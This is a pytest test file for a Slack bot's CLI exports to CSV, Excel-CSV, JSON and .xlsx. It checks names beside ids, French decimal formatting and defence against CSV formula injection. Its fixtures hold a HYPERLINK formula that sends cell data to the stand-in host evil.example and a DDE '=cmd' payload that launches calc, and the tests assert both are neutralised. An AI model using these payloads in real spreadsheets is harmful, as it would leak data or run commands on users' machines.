"""Exports as people open them: names beside ids, CSV for French Excel, .xlsx, and no cell
a spreadsheet would run as a formula — each file read back as a spreadsheet reads it."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlmodel import Session

from bot.__main__ import main
from bot.devtools.standin import SlackStandIn
from bot.services.exports import CHECKIN_COLUMNS, DECISION_COLUMNS, ESCALATION_COLUMNS
from bot.services.sheets import neutral, write_csv
from rituals.db import make_engine, migrate
from rituals.models import Decision, Escalation, OutboxMessage, Person
from tests.factories import answer, seed
from tests.slackbot import bot_environ

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"click")'


@pytest.fixture
def cli(tmp_path: Path, standin: SlackStandIn, monkeypatch: pytest.MonkeyPatch) -> Any:
    """`ritualbot …` in-process with the stand-in's environment; (code, stdout, stderr)."""
    for key, value in bot_environ(tmp_path, standin, f"sqlite:///{tmp_path / 'cli.db'}").items():
        monkeypatch.setenv(key, value)
    monkeypatch.chdir(tmp_path)

    def run(*argv: str) -> tuple[int, str, str]:
        out, err = io.StringIO(), io.StringIO()
        monkeypatch.setattr("sys.stdout", out)
        monkeypatch.setattr("sys.stderr", err)
        code = main(list(argv))
        return code, out.getvalue(), err.getvalue()

    return run


@pytest.fixture
def recorded(tmp_path: Path) -> Path:
    """Two answers (one with a formula typed as a blocker), a decision, an escalation."""
    database = tmp_path / "cli.db"
    engine = make_engine(f"sqlite:///{database}")
    migrate(engine)
    ines, paul = seed(
        engine,
        {"title": "Réduire les délais", "owner": "U0INES001", "accountable": "U0ACCT001"},
        {"title": "=cmd|' /C calc'!A0", "owner": "U0OWNER01", "accountable": "U0ACCT002"},
    )
    with Session(engine) as session:
        session.add(Person(user="U0ACCT001", name="Marc Leroy (kept)"))
        session.add(answer(ines.id, "2026-W48", kpi_value=4.5, progress=60, status="on_track",
                           blockers=HYPERLINK, author="U0INES001"))  # fmt: skip
        session.add(answer(paul.id, "2026-W48", kpi_value=-12.25, status="at_risk",
                           blockers="-5 people, +2 hires, @legal", author="U0OWNER01"))  # fmt: skip
        session.add(
            Decision(committee="comex", question="Budget ?", decision="+10 % en 2027",
                     rationale="@CFO: oui", decided_by="U0CMO0001", follow_up_owner="U0INES001",
                     due=date(2026, 12, 15), decided_at=datetime(2026, 11, 20, 10, tzinfo=UTC))
        )  # fmt: skip
        session.add(
            Escalation(initiative_id=ines.id, cause="stale", level=2,
                       opened_at=datetime(2026, 11, 24, 8, tzinfo=UTC),
                       raised_at=datetime(2026, 11, 24, 8, tzinfo=UTC))
        )  # fmt: skip
        session.commit()
    engine.dispose()
    return database


def test_formula_cells_are_neutralised_and_numbers_stay_numbers() -> None:
    assert [neutral(v) for v in ("=1+2", "+33 6", "-x", "@SUM(A1)", "\tx", "\rx")] == [
        "'=1+2", "'+33 6", "'-x", "'@SUM(A1)", "'\tx", "'\rx",
    ]  # fmt: skip
    assert [neutral(v) for v in ("-3", "-12,5", "+4.5", -3.5, 7, "plain", None)] == [
        "-3", "-12,5", "+4.5", -3.5, 7, "plain", None,
    ]  # fmt: skip


def test_checkins_for_french_excel_keep_accents_decimal_commas_and_run_no_formula(
    cli: Any, recorded: Path
) -> None:
    code, out, err = cli("export", "checkins", "--excel")

    assert code == 0, err
    assert out.startswith("\ufeffinitiative;owner;period;")
    rows = list(csv.DictReader(io.StringIO(out.removeprefix("\ufeff")), delimiter=";"))
    assert tuple(rows[0]) == CHECKIN_COLUMNS and CHECKIN_COLUMNS[8:10] == ("source", "owner_name")
    by_title = {r["initiative"]: r for r in rows}
    ines = by_title["Réduire les délais"]
    assert (ines["kpi_value"], ines["progress"], ines["owner_name"]) == ("4,5", "60", "Inès Martin")
    assert ines["blockers"] == "'" + HYPERLINK
    paul = by_title["'=cmd|' /C calc'!A0"]
    assert (paul["kpi_value"], paul["blockers"]) == ("-12,25", "'-5 people, +2 hires, @legal")
    assert "\r\n" in out


def test_the_plain_csv_and_json_have_the_names_and_json_is_as_stored(
    cli: Any, recorded: Path
) -> None:
    _, out, _ = cli("export", "checkins")
    rows = sorted(csv.DictReader(io.StringIO(out)), key=lambda r: r["owner"])
    assert [(r["owner"], r["owner_name"], r["kpi_value"]) for r in rows] == [
        ("U0INES001", "Inès Martin", "4.5"),
        ("U0OWNER01", "Owner 1", "-12.25"),
    ]
    assert rows[0]["blockers"].startswith("'=HYPERLINK")

    _, out, _ = cli("export", "checkins", "--format", "json")
    objects = sorted(json.loads(out), key=lambda o: o["owner"])
    assert objects[0]["blockers"] == HYPERLINK and objects[0]["owner_name"] == "Inès Martin"


def test_decisions_and_escalations_name_each_person_right_after_their_id(
    cli: Any, recorded: Path
) -> None:
    _, out, _ = cli("export", "decisions")
    [decision] = list(csv.DictReader(io.StringIO(out)))
    assert tuple(decision) == DECISION_COLUMNS
    assert DECISION_COLUMNS.index("decided_by_name") == DECISION_COLUMNS.index("decided_by") + 1
    assert (decision["decided_by_name"], decision["follow_up_owner_name"]) == (
        "Claire Moreau",
        "Inès Martin",
    )
    assert (decision["decision"], decision["rationale"]) == ("'+10 % en 2027", "'@CFO: oui")

    _, out, _ = cli("export", "escalations")
    [escalation] = list(csv.DictReader(io.StringIO(out)))
    assert tuple(escalation)[:5] == ESCALATION_COLUMNS[:5] == (
        "initiative", "owner", "owner_name", "accountable", "accountable_name",
    )  # fmt: skip
    # a name already kept in the database is used as it is, Slack is not asked again
    assert (escalation["owner_name"], escalation["accountable_name"]) == (
        "Inès Martin",
        "Marc Leroy (kept)",
    )


def test_an_xlsx_export_reads_back_with_numbers_as_numbers_and_text_as_text(
    cli: Any, recorded: Path, tmp_path: Path
) -> None:
    path = tmp_path / "checkins.xlsx"

    code, out, err = cli("export", "checkins", "--out", str(path))

    assert (code, out, err) == (0, "", "")
    sheet = load_workbook(path, read_only=True).worksheets[0]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert tuple(rows[0]) == CHECKIN_COLUMNS
    records = [dict(zip(CHECKIN_COLUMNS, r, strict=True)) for r in rows[1:]]
    by_owner = {r["owner"]: r for r in records}
    assert by_owner["U0INES001"]["kpi_value"] == 4.5 and by_owner["U0INES001"]["progress"] == 60
    assert by_owner["U0OWNER01"]["kpi_value"] == -12.25, "a negative number stays a number"
    assert by_owner["U0INES001"]["blockers"] == "'" + HYPERLINK
    assert by_owner["U0OWNER01"]["initiative"] == "'=cmd|' /C calc'!A0"
    assert by_owner["U0INES001"]["owner_name"] == "Inès Martin"
    assert not list(tmp_path.glob("*.part"))


def test_xlsx_also_by_format_and_excel_only_for_csv(
    cli: Any, recorded: Path, tmp_path: Path
) -> None:
    path = tmp_path / "decisions.data"
    code, _, _ = cli("export", "decisions", "--format", "xlsx", "--out", str(path))
    assert code == 0
    sheet = load_workbook(io.BytesIO(path.read_bytes()), read_only=True).worksheets[0]
    assert sheet.title == "decisions"

    code, out, err = cli("export", "decisions", "--format", "xlsx")
    assert code == 2 and "write it with --out FILE.xlsx" in err and out == ""

    code, _, err = cli("export", "decisions", "--excel", "--format", "json")
    assert code == 2 and "--excel is a kind of CSV" in err


def test_an_excel_csv_written_to_a_file_opens_with_its_accents(
    cli: Any, recorded: Path, tmp_path: Path
) -> None:
    path = tmp_path / "relevés.csv"

    code, _, _ = cli("export", "checkins", "--excel", "--out", str(path))

    assert code == 0
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and "Réduire les délais".encode() in data
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = {r["owner"]: r for r in csv.DictReader(file, delimiter=";")}
    assert rows["U0INES001"]["kpi_value"] == "4,5"


def test_the_review_page_shows_owners_by_name(cli: Any, recorded: Path, tmp_path: Path) -> None:
    out = tmp_path / "review.html"

    code, _, err = cli("review", "export", "--quarter", "2026-Q4", "--out", str(out))

    assert code == 0, err
    page = out.read_text(encoding="utf-8")
    assert "Inès Martin" in page and "Owner 1" in page
    assert "U0INES001" not in page and "U0OWNER01" not in page


def test_outbox_list_names_the_person_a_failed_message_was_for(cli: Any, tmp_path: Path) -> None:
    engine = make_engine(f"sqlite:///{tmp_path / 'cli.db'}")
    migrate(engine)
    at = datetime(2026, 11, 23, 8, tzinfo=UTC)
    with Session(engine) as session:
        session.add(Person(user="U0INES001", name="Inès Martin"))
        session.add(
            OutboxMessage(key="checkin:U0INES001:2026-W48", payload={"channel": "U0INES001"},
                          state="failed", last_error="channel_not_found", next_attempt_at=at,
                          created_at=at)
        )  # fmt: skip
        session.commit()
    engine.dispose()

    code, out, _ = cli("outbox", "list", "--failed")

    assert code == 0
    assert "chat.postMessage Inès Martin (U0INES001)  channel_not_found" in out


def test_excel_decimals_read_one_way_only() -> None:
    out = io.StringIO()
    write_csv(
        [{"a": 12.125, "b": "2.4", "c": 45.0, "d": "v1.5"}], ("a", "b", "c", "d"), out, excel=True
    )

    assert out.getvalue().splitlines()[1] == "12,1250;2,4;45;v1.5"
